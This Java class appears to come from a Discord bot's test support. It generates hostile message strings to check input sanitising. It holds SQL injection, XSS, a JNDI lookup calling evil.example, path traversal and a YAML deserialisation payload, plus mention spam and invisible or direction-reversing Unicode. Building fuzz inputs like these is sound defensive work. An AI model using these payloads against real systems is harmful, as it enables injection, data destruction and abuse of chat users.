package heraldo.bot.discord.text;

import java.util.ArrayList;
import java.util.List;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Hundreds of texts that would do harm if they were taken for more than text: each of some evils in each of some disguises. */
public final class HostileTexts {

    /** What cannot be seen, turns the text around or stands for nothing, as a regular expression's class. */
    public static final String UNSEEN =
            "[\\p{Cf}\\p{Cs}\\p{Co}\\p{Cn}\\p{Cc}\\u034F\\u115F\\u1160\\u17B4\\u17B5\\u180B-\\u180F"
                    + "\\u2800\\u3164\\uFE00-\\uFE0D\\uFFA0\\x{E0100}-\\x{E01EF}&&[^\\n]]";

    private static final int LONG = 10_000;
    /** Coprime to their number, so that all have their turn. */
    private static final int STRIDE = 37;

    private static final List<String> EVILS = List.of(
            "@everyone",
            "@here",
            "<@123456789012345678>",
            "<@!123456789012345678>",
            "<@&123456789012345678>",
            "<#123456789012345678>",
            "</orders show:123456789012345678>",
            "<:smile:123456789012345678>",
            "<t:1800000000:R>",
            "<id:customize>",
            "[free gold](https://evil.example)",
            "[x](<https://evil.example> \"y\")",
            "https://evil.example/a_(b)",
            "www.evil.example",
            "discord.gg/abcdef",
            "**bold** __line__ *a* _b_ ~~gone~~",
            "||hidden||",
            "```java\nx```",
            "``a`b``",
            ">>> quote",
            "# heading",
            "-# small",
            "- item\n1. first",
            "back\\slash \\\\ \\*",
            "\u202Eabc\u202C\u2066def\u2069",
            "a\u200Bb\u200Cc\u200Dd\uFEFFe\u2060f",
            "z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307lgo",
            "{seat} {0} '{'x'}' {n, plural, other {#}} ''",
            "'; DROP TABLE turn; --",
            "\uD83D\uDE00\uD83C\uDFFD\uD83D \uDE00 :smile:",
            "\u0000\u0007\u001B[31m\u0085\u2028\u2029",
            "<a:wave:123456789012345678> <sound:0:123456789012345678> <t:0:R> <id:guide> <id:browse>",
            "<https://evil.example> <x@evil.example> <+15551234567> discord://-/settings",
            "@silent [x](<https://evil.example>)",
            "> quote\n## heading\n### heading\n  - nested\n* item\n+ item\n12. twelfth",
            "one\r# heading\r\n-# small\u0085>>> quote\u2028- item\u000B1. first",
            "** __ ~~ || ` ``` <",
            "\\`a\\\\`b\\``c\\|\\|hidden\\||",
            "```ansi\n\u001B[2;31mred\u001B[0m\u009B31m```",
            "\u2067abc\u2068def\u061C\u200E\u200F\u202Dghi",
            "a\u115F\u1160\u3164\uFFA0\u2800\u00AD\u034F\u17B4\u17B5\u180B\u180Eb\uFE00\uDB40\uDD00c",
            "\uD83C\uDFF4\uDB40\uDC67\uDB40\uDC62\uDB40\uDC7F\uFFF9x\uFFFA\uFFFB\uFFFE\uE000",
            "\uDE00\uD83Dx\uDBFF",
            "e" + "\u0301".repeat(25) + "\u20DD\u0488\u0489 \uFDFD",
            "%s %d %n %1$s ${jndi:ldap://evil.example} {x, plural, one {#} other {{x}}} {x, select, '",
            "!!java.net.URL [\"http://evil.example\"] &a [*a] ? x : |\n--- %TAG",
            "\" OR \"\"=\"'); DELETE FROM turn; /* ../../x\\..\\con.txt",
            "</textarea><script>alert(1)</script><img src=x onerror=alert(1)>&lt;&#64;everyone");

    private static final List<UnaryOperator<String>> DISGUISES = List.of(
            text -> text,
            text -> "word " + text + " word",
            text -> "first line\n" + text,
            text -> "\\" + text,
            text -> "\\\\" + text + "\\",
            text -> "  \t" + text,
            text -> text.chars().mapToObj(Character::toString).collect(Collectors.joining("\u200B")),
            text -> "\u202E" + text,
            text -> "**" + text + "**",
            text -> text.repeat(LONG / text.length() + 1).substring(0, LONG));

    private HostileTexts() {}

    /** Some of them, or all: each of another kind than the one before. */
    public static List<String> some(int number) {
        List<String> all = all();
        return IntStream.range(0, Math.min(number, all.size()))
                .mapToObj(i -> all.get(i * STRIDE % all.size()))
                .toList();
    }

    public static List<String> all() {
        List<String> texts = new ArrayList<>();
        EVILS.forEach(evil -> DISGUISES.forEach(disguise -> texts.add(disguise.apply(evil))));
        return texts;
    }
}
